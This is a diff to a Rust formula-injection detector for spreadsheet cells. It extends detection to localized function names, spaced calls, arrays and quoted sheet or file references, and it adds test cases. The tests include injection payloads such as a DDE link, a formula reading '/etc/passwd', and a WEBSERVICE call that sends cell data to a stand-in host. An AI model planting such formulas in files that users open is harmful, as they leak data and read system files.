@@ -19,9 +19,12 @@ pub(super) fn why(text: &str) -> Option<&'static str> {
     if is_link(body) {
         return Some("a DDE link");
     }
-    let name = body.split(|c: char| !c.is_ascii_alphanumeric() && c != '.' && c != '_').next()?;
-    let called = body.get(name.len()..).is_some_and(|rest| rest.starts_with('('));
-    let begins = name.starts_with(|c: char| c.is_ascii_alphabetic());
+    // Functions have names in the user's own language too.
+    let name = body.split(|c: char| !c.is_alphanumeric() && c != '.' && c != '_').next()?;
+    let rest = body.get(name.len()..)?;
+    let apart = sign == '=' && is_function(name) && rest.trim_start().starts_with('(');
+    let called = rest.starts_with(['(', '（']) || apart;
+    let begins = name.starts_with(|c: char| c.is_alphabetic() || c == '_');
     if called && begins && (sign == '=' || is_function(name)) {
         return Some("a call");
     }
@@ -44,7 +47,7 @@ fn is_link(body: &str) -> bool {
 
 /// Whether a name is that of a function: in capitals, as spreadsheets write it, or one that acts.
 fn is_function(name: &str) -> bool {
-    let capitals = name.len() > 1 && !name.chars().any(|c| c.is_ascii_lowercase());
+    let capitals = name.chars().count() > 1 && !name.chars().any(char::is_lowercase);
     capitals || ACTING.iter().any(|acting| acting.eq_ignore_ascii_case(name))
 }
 
@@ -85,9 +88,19 @@ impl Parser<'_> {
             self.rest = rest;
             return true;
         }
-        let end = self
-            .rest
-            .find(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '.' | '$' | '_' | '%'));
+        if let Some(rest) = self.rest.strip_prefix('{') {
+            self.rest = rest;
+            return self.expression(depth - 1) && self.ends('}');
+        }
+        // A sheet, or a file: `'Sheet 1'!A1`, `'file:///a'#$b.A1`.
+        if let Some(rest) = self.rest.strip_prefix('\'') {
+            let Some((_, rest)) = rest.split_once('\'') else { return false };
+            let Some(cell) = rest.strip_prefix(['!', '#', '.']) else { return false };
+            self.rest = cell;
+            self.operators += 1;
+        }
+        let end =
+            self.rest.find(|c: char| !c.is_alphanumeric() && !matches!(c, '.' | '$' | '_' | '%'));
         let (word, rest) = self.rest.split_at(end.unwrap_or(self.rest.len()));
         self.rest = rest;
         if word.trim_end_matches('%').parse::<f64>().is_ok_and(f64::is_finite) {
@@ -107,7 +120,11 @@ impl Parser<'_> {
     }
 
     fn close(&mut self) -> bool {
-        let rest = self.rest.trim_start().strip_prefix(')');
+        self.ends(')')
+    }
+
+    fn ends(&mut self, bracket: char) -> bool {
+        let rest = self.rest.trim_start().strip_prefix(bracket);
         rest.map(|rest| self.rest = rest).is_some()
     }
 }
@@ -156,6 +173,12 @@ mod tests {
             "-1+dde|'x'!A1",
             "=IF(A1>0,\"a\",\"b\")",
             "=importxml(x)",
+            "=SUM (A1)",
+            "=ГИПЕРССЫЛКА(\"http://a.example\")",
+            "='file:///etc/passwd'#$passwd.A1",
+            "='Sheet 1'!A1",
+            "={1,2}*A1",
+            "=_xlfn.WEBSERVICE(\"http://a.example\"&A1)",
         ] {
             assert!(why(formula).is_some(), "{formula}");
         }
@@ -180,6 +203,11 @@ mod tests {
             "'=1+1",
             "",
             "-x - y",
+            "= see (above)",
+            "='quoted'",
+            "={",
+            "=P",
+            "=^.^=",
         ] {
             assert!(why(plain).is_none(), "{plain}");
         }
